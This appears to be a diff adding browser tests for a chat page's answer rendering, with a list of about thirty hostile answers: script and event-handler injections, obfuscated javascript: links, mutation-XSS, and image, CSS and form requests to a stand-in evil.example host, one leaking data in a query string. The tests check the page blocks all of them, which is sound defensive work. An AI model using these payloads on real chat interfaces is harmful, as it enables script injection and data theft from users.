@@ -1,0 +1,209 @@
+"""What an answer may look like, and that a hostile one is harmless under the policy."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from playwright.sync_api import expect
+
+from chatpage import Chat
+
+
+def show(chat: Chat, *pieces: str) -> None:
+    chat.answer_with(*pieces)
+    chat.send("q")
+    chat.done()
+
+
+def test_markdown_is_rendered(chat: Chat) -> None:
+    show(
+        chat, "# Top\n\nSome **bold** and `code`.\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n> quote\n\n1. x\n2. y"
+    )
+    prose = chat.text
+    expect(prose.get_by_role("heading", level=3)).to_have_text("Top")
+    expect(prose.locator("strong")).to_have_text("bold")
+    expect(prose.get_by_role("cell")).to_have_text(["1", "2"])
+    expect(prose.locator("td.right")).to_have_css("text-align", "right")
+    expect(prose.get_by_role("listitem")).to_have_text(["x", "y"])
+    assert chat.complaints == []
+
+
+def test_code_is_coloured_and_copied(chat: Chat) -> None:
+    code = "def f(x):\n    return x < 1"
+    show(chat, f"```python\n{code}\n```")
+    expect(chat.text.locator(".hljs-keyword").first).to_have_text("def")
+    chat.text.get_by_role("button", name="Copy").click()
+    expect(chat.text.get_by_role("button", name="Copied")).to_be_visible()
+    assert chat.page.evaluate("navigator.clipboard.readText()") == code
+    assert chat.complaints == []
+
+
+def test_formulas_are_mathml(chat: Chat) -> None:
+    show(chat, "So \\(x^2\\) and\n\n$$\n\\frac{1}{2}\n$$\n\nbut $\\nonsense{$ stays")
+    expect(chat.text.locator("math")).to_have_count(2)
+    expect(chat.text.locator("math mfrac")).to_have_count(1)
+    expect(chat.text.locator("math").first).to_have_text("x2")
+    expect(chat.text).to_contain_text("stays")
+    assert chat.complaints == []
+
+
+def test_libraries_come_when_they_are_needed(chat: Chat) -> None:
+    loaded: list[str] = []
+    chat.page.on("request", lambda request: loaded.append(request.url))
+    show(chat, "plain text")
+    assert not [url for url in loaded if re.search("katex|highlighter", url)]
+    show(chat, "$x$")
+    expect(chat.text.locator("math")).to_have_count(1)
+    assert [url for url in loaded if "katex" in url]
+    assert not [url for url in loaded if "highlighter" in url]
+
+
+def test_reasoning_is_folded(chat: Chat) -> None:
+    chat.answer_with({"reasoning_content": "let me see"}, "yes")
+    chat.send("q")
+    expect(chat.text).to_have_text("yes")
+    summary = chat.answer.get_by_text("Reasoning")
+    expect(chat.answer.get_by_text("let me see")).to_have_count(0)
+    summary.click()
+    expect(chat.answer.get_by_text("let me see")).to_be_visible()
+    show(chat, "<think>hm</think>", "no")
+    expect(chat.text).to_have_text("no")
+    expect(chat.answer.get_by_text("Reasoning")).to_be_visible()
+
+
+def test_thinking_is_said_while_it_goes_on(fed: Chat) -> None:
+    fed.send("q")
+    fed.feed("<think>hm")
+    expect(fed.answer.get_by_text("Thinking")).to_be_visible()
+    fed.feed("</think>yes")
+    expect(fed.text).to_have_text("yes")
+    expect(fed.answer.get_by_text("Reasoning")).to_be_visible()
+    fed.end()
+
+
+def test_tool_calls_are_shown(chat: Chat) -> None:
+    first = {"index": 0, "id": "call-1", "function": {"name": "weather", "arguments": '{"city":'}}
+    rest = {"index": 0, "function": {"arguments": '"Oslo"}'}}
+    chat.answer_with({"tool_calls": [first]}, {"tool_calls": [rest]}, finish="tool_calls")
+    chat.send("q")
+    call = chat.page.get_by_role("region", name="Tool call weather")
+    expect(call).to_contain_text('"city": "Oslo"')
+    expect(chat.answer).to_contain_text("asks for a tool")
+
+
+HOSTILE = {
+    "script": "<script>document.title='ran'</script>",
+    "image handler": "<img src=x onerror=\"document.title='ran'\">",
+    "svg": "<svg onload=\"document.title='ran'\"><animate onbegin=\"document.title='ran'\"></svg>",
+    "iframe": "<iframe src=\"javascript:parent.document.title='ran'\"></iframe>",
+    "object": '<object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
+    "link": "[click](javascript:document.title='ran')",
+    "link in capitals": "[click](JaVaScRiPt:document.title='ran')",
+    "link with entities": "[click](java&#115;cript:document.title='ran')",
+    "link with control": "[click](java\tscript:document.title='ran')",
+    "data link": "[click](data:text/html,<script>document.title='ran'</script>)",
+    "autolink": "<javascript:document.title='ran'>",
+    "reference": "[click][x]\n\n[x]: javascript:document.title='ran'",
+    "remote image": "![secret](https://evil.example/pixel.png?data=secret)",
+    "remote image, no scheme": "![secret](//evil.example/pixel.png)",
+    "own address": "![x](/metrics)",
+    "svg image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
+    "style": "<style>body{display:none}</style><div style=\"background:url('https://evil.example')\">",
+    "css import": "<link rel=stylesheet href=https://evil.example/x.css>@import 'https://evil.example/x.css'",
+    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    "base and form": '<base href="https://evil.example/"><form action="//evil.example"><input name=a></form>',
+    "code language": "```\"onmouseover=\"document.title='ran'\n<script>document.title='ran'</script>\n```",
+    "maths": "$\\href{javascript:document.title='ran'}{x}$ $\\includegraphics{https://evil.example/x}$",
+    "maths with html": "$\\htmlStyle{background:url(//evil.example)}{x}$ \\(</annotation><img src=x>\\)",
+    "mutation": '<math><mtext><table><mglyph><style><img src=x onerror="document.title=1">',
+    "template": "{{constructor.constructor('document.title=1')()}} ${document.title=1}",
+    "table of 400 columns": "|" + "a|" * 400 + "\n|" + "-|" * 400 + "\n|" + "b|" * 400,
+    "deep nesting": ">" * 3000 + " deep",
+    "many links": "[" * 5000,
+    "emphasis": "*a_ " * 3000,
+}
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_hostile_output_runs_and_fetches_nothing(chat: Chat, name: str) -> None:
+    fetched: list[str] = []
+    show(chat, "warm up $x$\n\n```python\n1\n```")
+    expect(chat.text.locator("math")).to_have_count(1)
+    chat.page.on("request", lambda request: fetched.append(request.url))
+    chat.page.keyboard.press("Control+Shift+O")
+    show(chat, HOSTILE[name])
+    expect(chat.answers).to_have_count(1)
+    expect(chat.answer.locator(".usage")).to_be_visible()
+    for link in chat.text.get_by_role("link").all():
+        assert re.match("https?:|mailto:", link.get_attribute("href") or "")
+        assert link.get_attribute("target") == "_blank"
+    bad = "script, iframe, object, embed, style, link, meta, base, form, svg, img, [style]"
+    assert chat.text.locator(bad).count() == 0
+    assert chat.page.title() == "q"
+    # Chromium asks for the page's own icon again when its address changes.
+    own = (f"{chat.url}/v1/chat/completions", f"{chat.url}/assets/icon-")
+    assert [url for url in fetched if not url.startswith(own)] == []
+    assert chat.complaints == []
+    assert chat.page.evaluate("document.documentElement.scrollWidth <= innerWidth")
+
+
+def test_a_hostile_question_or_name_is_text(chat: Chat) -> None:
+    hostile = "<img src=x onerror=\"document.title='ran'\">"
+    chat.answer_with("yes")
+    chat.send(hostile)
+    expect(chat.asked).to_have_text(hostile)
+    expect(chat.sessions).to_have_text([hostile])
+    assert chat.page.locator("main img, nav img").count() == 0
+    assert chat.complaints == []
+
+
+def test_bidi_text_turns_nothing_around_it(chat: Chat) -> None:
+    """The overrides end with the message: what follows on the page lies where it always lies."""
+    show(chat, "\u202e\u2067plain")
+    spans = chat.answer.locator(".usage span")
+    expect(spans.first).to_have_text("tiny")
+    boxes = [span.bounding_box() for span in spans.all()]
+    places = [box["x"] for box in boxes if box is not None]
+    assert len(places) >= 4
+    assert places == sorted(places)
+    expect(chat.text).to_have_css("unicode-bidi", "isolate")
+
+
+def test_the_policy_itself_stops_what_would_get_through(chat: Chat) -> None:
+    """The second wall: even the page's own code cannot make HTML from a text, or fetch from elsewhere."""
+    refused = chat.page.evaluate(
+        """() => {
+            const out = [];
+            const tries = {
+                html: () => { document.createElement("div").innerHTML = "<b>x</b>"; },
+                policy: () => { trustedTypes.createPolicy("mine", {}); },
+                url: () => { document.createElement("script").src = "https://evil.example/x.js"; },
+            };
+            for (const [name, run] of Object.entries(tries)) {
+                try { run(); } catch { out.push(name); }
+            }
+            return out;
+        }"""
+    )
+    assert refused == ["html", "policy", "url"]
+    violated = chat.page.evaluate(
+        """async () => {
+            const found = new Set();
+            const all = new Promise((done) => {
+                addEventListener("securitypolicyviolation", (event) => {
+                    found.add(event.effectiveDirective);
+                    if (found.size === 3) done();
+                });
+            });
+            const image = new Image();
+            image.src = "https://evil.example/x.png";
+            const frame = document.createElement("iframe");
+            frame.src = "https://evil.example/";
+            document.body.append(image, frame);
+            await fetch("https://evil.example/").catch(() => 0);
+            await all;
+            return [...found].sort();
+        }"""
+    )
+    assert violated == ["connect-src", "frame-src", "img-src"]
